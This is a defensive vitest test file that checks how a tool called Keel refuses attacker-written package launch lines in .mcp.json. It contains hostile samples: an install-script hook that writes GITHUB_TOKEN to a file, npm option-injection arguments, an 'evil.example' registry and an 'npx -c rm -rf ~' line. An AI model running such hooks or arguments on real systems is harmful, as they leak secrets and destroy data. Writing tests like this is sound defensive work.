/**
 * Issue 35 class 1, as an attacker who controls an approved `.mcp.json`: what Keel hands to a package
 * manager (which runs outside the sandbox) is data. A value that would be an npm option, an option Keel
 * does not know, a URL, a git source or an interpreter by path is refused with the reason; the install
 * runs no script and gets no secret; a workspace's prepared package is its own. The controls (a real
 * `npm install` of a local tarball that carries an install script) must still work.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerConfig, Transport } from './config.js';
import { isRefused, packageLaunch, type PackageLaunch } from './launchers.js';
import { installCommand, packageCache, PackageError, preparePackage } from './packages.js';

let base: string;
let ws: string;
let data: string;
let marker: string;

const stdio = (command: string, args: string[]): Transport => ({ type: 'stdio', command, args, env: {} });
const server = (t: Transport, file = path.join(ws, '.mcp.json')): ServerConfig => ({ name: 'evsrv', scope: 'workspace', file, transport: t });
const prepare = (t: Transport, file?: string) => preparePackage(server(t, file), { dataFolder: data, cwd: ws, env: { PATH: process.env.PATH, HOME: base, GITHUB_TOKEN: 'ghp_secret' } });

beforeAll(() => {
  base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'keel-pkgattack-')));
  ws = path.join(base, 'ws');
  data = path.join(base, 'data');
  marker = path.join(base, 'script-ran');
  const pkg = path.join(base, 'evsrv');
  fs.mkdirSync(pkg, { recursive: true });
  fs.mkdirSync(ws);
  // A package whose install scripts would write a marker (and could read every variable): they must never run.
  fs.writeFileSync(path.join(pkg, 'hook.js'), `require('fs').writeFileSync(${JSON.stringify(marker)}, process.env.GITHUB_TOKEN || 'ran');\n`);
  const script = 'node hook.js';
  fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'evsrv', version: '1.0.0', bin: { evsrv: 'bin.js' }, scripts: { preinstall: script, install: script, postinstall: script } }));
  fs.writeFileSync(path.join(pkg, 'bin.js'), '#!/usr/bin/env node\nconsole.log("evsrv");\n');
  execFileSync('npm', ['pack', '--silent', '--pack-destination', ws], { cwd: pkg, env: { ...process.env, npm_config_ignore_scripts: 'true' } });
  expect(fs.existsSync(path.join(ws, 'evsrv-1.0.0.tgz'))).toBe(true);
});
afterAll(() => fs.rmSync(base, { recursive: true, force: true }));

describe('package lines as an attacker writes them', () => {
  it('a package value that is an npm option, in any spelling and any launcher, is refused with the reason', () => {
    const attacks: [string, string[]][] = [
      ['npx', ['-y', '-p', '--ignore-scripts=false', '-p', './evsrv-1.0.0.tgz', 'evsrv']],
      ['npx', ['-y', '--package=--ignore-scripts=false', '--package=./evsrv-1.0.0.tgz', 'evsrv']],
      ['npx', ['-y', '-p', '--prefix=/tmp/elsewhere', 'evsrv']],
      ['npx', ['-y', '--package', '--userconfig=./npmrc', 'evsrv']],
      ['npm', ['exec', '-p', '--registry=http://evil.example', '--', 'evsrv']],
      ['bunx', ['-p', '--ignore-scripts=false', 'evsrv']],
      ['npx', ['-y', '--', '--ignore-scripts=false']],
    ];
    for (const [command, args] of attacks) {
      const l = packageLaunch(stdio(command, args));
      expect(isRefused(l), `${command} ${args.join(' ')}`).toBe(true);
      expect((l as { refused: string }).refused).toMatch(/begins with "-", which the package manager would read as an option/);
    }
  });

  it('options Keel does not know, URLs, git sources and interpreters by path are refused; each says why', () => {
    const why = (command: string, args: string[]) => {
      const l = packageLaunch(stdio(command, args));
      return isRefused(l) ? l.refused : 'accepted';
    };
    expect(why('npx', ['--registry', 'http://evil.example', 'pkg'])).toBe("Keel does not pass npx's option --registry to the package manager that fetches outside the sandbox");
    expect(why('npx', ['-c', 'rm -rf ~'])).toMatch(/option -c/);
    expect(why('npx', ['-y', 'git+https://example.com/x.git'])).toMatch(/not a registry name or a file/);
    expect(why('npx', ['-y', 'https://example.com/x.tgz'])).toMatch(/not a registry name or a file/);
    expect(why('uvx', ['--python', '/tmp/evil/python3', 'mcp-server-time'])).toMatch(/is not a version \(a Python given by path would run outside the sandbox\)/);
    expect(why('uvx', ['--with', './local', 'mcp-server-time'])).toMatch(/not a name from the Python package index/);
    expect(why('uvx', ['--from', 'git+https://example.com/x', 'srv'])).toMatch(/not a name from the Python package index/);
    expect(why('uvx', ['--index-url', 'http://evil', 'srv'])).toMatch(/option --index-url/);
    expect(why('npx', ['-y'])).toBe('it names no package to run');
    // Controls: the lines READMEs write are accepted as they are.
    expect(why('npx', ['-y', '@modelcontextprotocol/server-memory'])).toBe('accepted');
    expect(why('npx', ['-y', 'pkg@^1.2.0', '--flag'])).toBe('accepted');
    expect(why('npm', ['exec', '--yes', '--', '@scope/pkg@latest'])).toBe('accepted');
    expect(why('uvx', ['--python', '3.12', '--with', 'httpx>=0.27', 'mcp-server-fetch==2025.1.17'])).toBe('accepted');
    expect(why('uv', ['tool', 'run', 'mcp-server-git', '--repository', '.'])).toBe('accepted');
    expect(packageLaunch(stdio('node', ['server.mjs']))).toBeUndefined();
  });

  it('the install gets no secret of the environment, scripts off by flag and by environment, names after --', () => {
    const l = packageLaunch(stdio('npx', ['-y', 'pkg'])) as PackageLaunch;
    const c = installCommand(l, '/cache/x', l.packages, { PATH: '/usr/bin', HOME: '/home/p', GITHUB_TOKEN: 'ghp_x', AWS_SECRET_ACCESS_KEY: 'k', npm_config_ignore_scripts: 'false', https_proxy: 'http://proxy:3128' });
    expect(c.env).toEqual({ PATH: '/usr/bin', HOME: '/home/p', https_proxy: 'http://proxy:3128', npm_config_ignore_scripts: 'true', UV_NO_BUILD: '1', npm_config_update_notifier: 'false' });
    expect(c.args.slice(-2)).toEqual(['--', 'pkg']);
    expect(c.args).toContain('--ignore-scripts');
    const u = packageLaunch(stdio('uvx', ['mcp-server-time'])) as PackageLaunch;
    expect(installCommand(u, '/cache/u', u.packages, {}).args).toEqual(['tool', 'install', '--quiet', '--no-build', '--', 'mcp-server-time']);
  });
});

describe('what a refused or accepted line does for real (npm, a local tarball)', { timeout: 120_000 }, () => {
  it('the attack line installs nothing and runs no script; the control installs the tarball without its scripts', async () => {
    await expect(prepare(stdio('npx', ['-y', '-p', '--ignore-scripts=false', '-p', './evsrv-1.0.0.tgz', 'evsrv']))).rejects.toThrow(PackageError);
    await expect(prepare(stdio('npx', ['-y', '-p', '--ignore-scripts=false', '-p', './evsrv-1.0.0.tgz', 'evsrv']))).rejects.toThrow(/^MCP server evsrv is not started: the package "--ignore-scripts=false" begins with "-"/);
    expect(fs.existsSync(packageCache(data))).toBe(false);

    const ran = await prepare(stdio('npx', ['-y', '-p', './evsrv-1.0.0.tgz', 'evsrv', '--port', '1']));
    expect(ran).toMatchObject({ type: 'stdio', args: ['--port', '1'] });
    const program = (ran as Extract<Transport, { type: 'stdio' }>).command;
    expect(program.startsWith(path.join(packageCache(data), 'npx'))).toBe(true);
    expect(execFileSync(program, { encoding: 'utf8' })).toBe('evsrv\n');
    expect(fs.existsSync(marker)).toBe(false);
    // The marker is real: the same tarball installed by npm with scripts on writes it, with the token.
    execFileSync('npm', ['install', '--prefix', path.join(base, 'plain'), '--no-audit', '--no-fund', '--loglevel=error', path.join(ws, 'evsrv-1.0.0.tgz')], { env: { ...process.env, GITHUB_TOKEN: 'ghp_secret', npm_config_ignore_scripts: 'false' } });
    expect(fs.readFileSync(marker, 'utf8')).toBe('ghp_secret');
    fs.rmSync(marker);
  });

  it("a workspace's prepared package is its own; a changed tarball is prepared again", async () => {
    const line = stdio('npx', ['-y', '-p', './evsrv-1.0.0.tgz', 'evsrv']);
    const mine = await prepare(line);
    expect(await prepare(line)).toEqual(mine);
    const other = await prepare(line, path.join(base, 'other-ws', '.mcp.json'));
    expect(path.dirname(path.dirname(path.dirname((other as { command: string }).command)))).not.toBe(path.dirname(path.dirname(path.dirname((mine as { command: string }).command))));
    // The same name and version, other bytes: packed again with another program text.
    fs.writeFileSync(path.join(base, 'evsrv', 'bin.js'), '#!/usr/bin/env node\nconsole.log("evsrv 2");\n');
    execFileSync('npm', ['pack', '--silent', '--pack-destination', ws], { cwd: path.join(base, 'evsrv'), env: { ...process.env, npm_config_ignore_scripts: 'true' } });
    const changed = await prepare(line);
    expect((changed as { command: string }).command).not.toBe((mine as { command: string }).command);
    expect(execFileSync((changed as { command: string }).command, { encoding: 'utf8' })).toBe('evsrv 2\n');
    expect(fs.existsSync(marker)).toBe(false);
  });
});
